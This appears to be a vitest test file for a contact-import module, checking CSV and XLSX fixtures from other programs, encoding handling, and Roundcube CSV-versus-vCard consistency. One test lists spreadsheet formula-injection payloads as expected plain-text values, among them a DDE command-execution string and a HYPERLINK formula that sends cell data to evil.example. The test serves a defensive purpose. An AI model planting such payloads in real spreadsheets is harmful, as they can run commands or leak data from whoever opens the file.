import { readFileSync } from 'node:fs'
import { basename } from 'node:path'
import { describe, expect, test } from 'vitest'
import type { AddressParts } from '../../../db/domain/contact-point.ts'
import { AppError, isAppError } from '../../../db/domain/errors.ts'
import type { ContactDraft } from '../../../db/exchange/import/contact/draft/contact-draft.ts'
import { defaultSourceLimits } from '../../../db/exchange/import/source/source-limit.ts'
import { readCards } from '../../../db/exchange/import/vcard/read-cards.ts'
import { importOne, importSheets, tableReader, type ReadTable } from './read-table.ts'
import { hasSharedFiles, sharedFiles, sharedPath } from './shared-files.ts'
import { expected } from './public-tables-expected.ts'

const present = hasSharedFiles('contacts/csv')

const { readFile } = tableReader()

const textKind = ({ text, hiddenSheets }: ReadTable): string => {
  if (!text) return ['xlsx', ...hiddenSheets.map((name) => `hidden ${name}`)].join(' ')
  const { encoding, delimiter } = text
  return delimiter.value === ',' ? encoding.value : `${encoding.value} ${delimiter.value}`
}

function summary(file: ReadTable): string[] {
  const sheets = importSheets(file).map(({ sheet, table, mapping, drafts, problems }) => {
    const footer = table.footerLine.value === null ? [] : [`footer ${table.footerLine.value}`]
    const name = sheet.name === null ? '' : `${sheet.name}: `
    return [
      `${name}${mapping.layout ?? 'by header'}`,
      `header ${table.headerLine.value}`,
      ...footer,
      `${table.rows.length} rows`,
      `${drafts.length} drafts`,
      `${problems.length} problems`,
    ].join(', ')
  })
  return [textKind(file), ...sheets]
}

const refusal = (error: unknown): string[] => {
  if (isAppError(error, 'file.otherNature')) return [`${error.code} ${error.params.nature}`]
  if (!(error instanceof AppError) || !('detail' in error.params)) throw error
  return [`${error.code} ${String(error.params.detail)}`]
}

describe.skipIf(!present)('tables of other programs', () => {
  test.each(Object.entries(expected))('%s', async (path, told) => {
    const start = performance.now()
    expect(await readFile(sharedPath(path)).then(summary, refusal)).toEqual(told)
    expect(performance.now() - start).toBeLessThan(10_000)
  })

  test('are all in the list', () => {
    const folders = ['contacts/csv', 'nasty/csv', 'nasty/encodings', 'nasty/strings'] as const
    const files = [
      ...folders.flatMap((folder) => sharedFiles(folder, '.csv')),
      ...sharedFiles('nasty/xlsx', '.xlsx'),
    ]
    expect(Object.keys(expected).sort()).toEqual(files.sort())
  })

  test('the same contacts are the same whatever the encoding', async () => {
    const files = sharedFiles('nasty/encodings', '.csv').filter((file) => file.includes('western'))
    const texts = await Promise.all(files.map((file) => readFile(sharedPath(file))))
    expect(new Set(texts.map(({ sheets }) => JSON.stringify(sheets))).size).toBe(1)
  })

  test('the workbook of partners has its dates, codes and texts as they stand in it', async () => {
    const file = await readFile(sharedPath('nasty/xlsx/constructed/partner-roster.xlsx'))
    const [partners] = importSheets(file)
    expect(partners?.table.rows.map(({ cells }) => cells.slice(3, 6))).toEqual([
      ['+1 505 555 0101', '02903', '2024-01-15'],
      ['4015550103', '2903', '2023-12-31'],
      ['505-555-0107', '87301', '2022-05-06'],
      [],
    ])
    expect(partners?.drafts.map(({ noun }) => noun)).toEqual(['person', 'person', 'organization', 'person'])
    expect(partners?.drafts[3]?.affiliations[0]?.organization).toBe('=SUM(1,2) Org')
  })

  test('cells that look like formulas are the text they are', async () => {
    const { drafts } = importOne(await readFile(sharedPath('nasty/strings/formula-injection-contacts.csv')))
    expect(drafts.map(({ fields }) => fields['givenName'])).toEqual([
      '=1+1',
      '+1+1',
      '-1+1',
      '@SUM(A1)',
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example?x="&A1,"ok")',
      '+1 505 555 0199',
      'p7@example.com',
      '@handle',
    ])
  })
})

type Records = readonly Readonly<Record<string, string>>[]

// What the suite itself gets wrong: a telephone number that the table does not hold.
const mistaken = new Set(['location_coordinates.csv'])

const spectrum = sharedFiles('nasty/csv/csv-spectrum/csvs', '.csv').filter(
  (file) => !mistaken.has(basename(file)),
)

describe.skipIf(!present)('the spectrum of tables', () => {
  test.each(spectrum)('%s holds the records that its suite expects', async (path) => {
    const json = path.replace('/csvs/', '/json/').replace('.csv', '.json')
    // The tables have lost the CR of their line breaks, their expected records have not.
    const text = readFileSync(sharedPath(json), 'utf8').replaceAll('\\r\\n', '\\n')
    const records = JSON.parse(text) as Records
    const { table } = importOne(await readFile(sharedPath(path)), { headerLine: 1 })
    const read = table.rows.map(({ cells }) =>
      Object.fromEntries(table.columns.map(({ name, index }) => [name, cells[index] ?? ''])),
    )
    expect(read).toEqual(records)
  })
})

const addressText = ({ street, city, region, postcode, country }: AddressParts): string =>
  [street, city, region, postcode, country].filter(Boolean).join(', ')

/** What both a table and a card say of a contact: where it is reached, in no order. Roundcube leaves the post box out. */
const reached = ({ points }: ContactDraft): string[] =>
  points
    .map(({ kind, value, parts }) => (kind === 'address' ? addressText(parts ?? {}) : `${kind} ${value}`))
    .sort()

/** A word that a table has for a phone ("mobile") is kept as a note. */
const isNoWord = (said: string): boolean => !/^phone \P{Nd}*$/u.test(said)

describe.skipIf(!present)('the tables of Roundcube', () => {
  test.each(['all', 'email', 'gmail', 'outlook', 'tb_plain'])('%s says what its card says', async (name) => {
    const path = sharedPath(`contacts/csv/roundcube/${name}`)
    const { drafts } = importOne(await readFile(`${path}.csv`))
    const cards = readCards(`${path}.vcf`, defaultSourceLimits).drafts
    expect(drafts.map(reached)).toEqual(cards.map((card) => reached(card).filter(isNoWord)))
    const parts = ({ fields }: ContactDraft) => [fields['givenName'], fields['familyName'], fields['suffix']]
    if (name !== 'email' && name !== 'outlook') expect(drafts.map(parts)).toEqual(cards.map(parts))
    expect(drafts.map(({ custom }) => custom['Birthday'])).toEqual(
      cards.map(({ custom }) => custom['Birthday']),
    )
  })
})
